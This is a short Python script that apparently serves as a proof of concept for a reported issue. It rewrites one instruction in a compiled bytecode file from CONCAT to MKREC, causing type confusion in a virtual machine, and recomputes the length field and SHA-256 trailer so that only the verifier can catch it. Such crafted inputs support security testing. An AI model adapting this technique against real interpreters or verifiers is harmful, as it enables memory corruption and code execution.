# craft.py IN OUT - the attack of issue 16 item 1 as a file: the CONCAT of
# `let greeting` becomes MKREC (a record built in the record's memory, put
# in a global) while `tag late` still reads the global as a string with
# len(). The opcode numbers are fixed (docs/bytecode.md: CONCAT 26,
# MKREC 59); the length field and the SHA-256 trailer are made right, so
# that only the verifier stands between the file and the VM.
import hashlib, struct, sys

data = bytearray(open(sys.argv[1], "rb").read())
CONCAT, MKREC = 26, 59
# The instruction R[0] := R[1] + R[2]: op, x, then A, B, C (16 bits each).
insn = bytes([CONCAT, 0]) + struct.pack("<HHH", 0, 1, 2)
found = [i for i in range(24, len(data) - 32 - 7) if data[i:i + 8] == insn]
assert len(found) == 1, found
data[found[0]] = MKREC  # R[0] := record(R[1], R[2])
struct.pack_into("<Q", data, 16, len(data))
data[-32:] = hashlib.sha256(bytes(data[:-32])).digest()
open(sys.argv[2], "wb").write(bytes(data))
